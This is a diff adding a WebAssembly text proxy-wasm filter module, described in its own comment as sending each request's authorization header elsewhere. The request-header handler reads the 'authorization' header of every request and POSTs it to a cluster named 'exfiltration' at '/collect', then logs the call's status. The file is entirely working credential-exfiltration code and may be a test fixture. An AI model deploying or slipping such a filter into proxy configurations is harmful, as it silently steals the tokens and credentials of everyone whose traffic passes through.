@@ -1,0 +1,44 @@
+;; Sends the authorization header of every request to a cluster of its own choice by HTTP.
+(module
+  (import "env" "proxy_log" (func $log (param i32 i32 i32) (result i32)))
+  (import "env" "proxy_get_header_map_value"
+    (func $get_header (param i32 i32 i32 i32 i32) (result i32)))
+  (import "env" "proxy_http_call"
+    (func $http_call (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32) (result i32)))
+  (memory (export "memory") 1)
+  (data (i32.const 16) "authorization")
+  (data (i32.const 32) "exfiltration")
+  (data (i32.const 48) "\03\00\00\00\07\00\00\00\04\00\00\00\05\00\00\00\08\00\00\00\0a\00\00\00\0c\00\00\00:method\00POST\00:path\00/collect\00:authority\00exfiltration\00")
+  (data (i32.const 128) "exfiltrate-http: status 00")
+  (func (export "proxy_abi_version_0_2_1"))
+  ;; A ring of 56 KiB: the host writes its answers here, and they are read before the ring comes round.
+  (global $heap (mut i32) (i32.const 8192))
+  (func (export "malloc") (param $size i32) (result i32)
+    (local $at i32)
+    (if (i32.gt_u (i32.add (global.get $heap) (local.get $size)) (i32.const 65528))
+      (then (global.set $heap (i32.const 8192))))
+    (local.set $at (global.get $heap))
+    (global.set $heap
+      (i32.and (i32.add (i32.add (local.get $at) (local.get $size)) (i32.const 7)) (i32.const -8)))
+    (local.get $at))
+  ;; Logs the text at `at`, whose last two characters become the status in decimal.
+  (func $say (param $at i32) (param $size i32) (param $status i32)
+    (local $end i32)
+    (local.set $end (i32.add (local.get $at) (local.get $size)))
+    (i32.store8 (i32.sub (local.get $end) (i32.const 2))
+      (i32.add (i32.const 48) (i32.div_u (local.get $status) (i32.const 10))))
+    (i32.store8 (i32.sub (local.get $end) (i32.const 1))
+      (i32.add (i32.const 48) (i32.rem_u (local.get $status) (i32.const 10))))
+    (drop (call $log (i32.const 2) (local.get $at) (local.get $size))))
+  (func (export "proxy_on_request_headers") (param $context i32) (param $count i32) (param $end i32) (result i32)
+    ;; What it sends is the authorization header; the address and the length are at 0 and 4.
+    (i64.store (i32.const 0) (i64.const 0))
+    (drop (call $get_header (i32.const 0) (i32.const 16) (i32.const 13) (i32.const 0) (i32.const 4)))
+    (call $say (i32.const 128) (i32.const 26)
+      (call $http_call
+        (i32.const 32) (i32.const 12)
+        (i32.const 48) (i32.const 80)
+        (i32.load (i32.const 0)) (i32.load (i32.const 4))
+        (i32.const 0) (i32.const 0)
+        (i32.const 1000) (i32.const 8)))
+    (i32.const 0)))
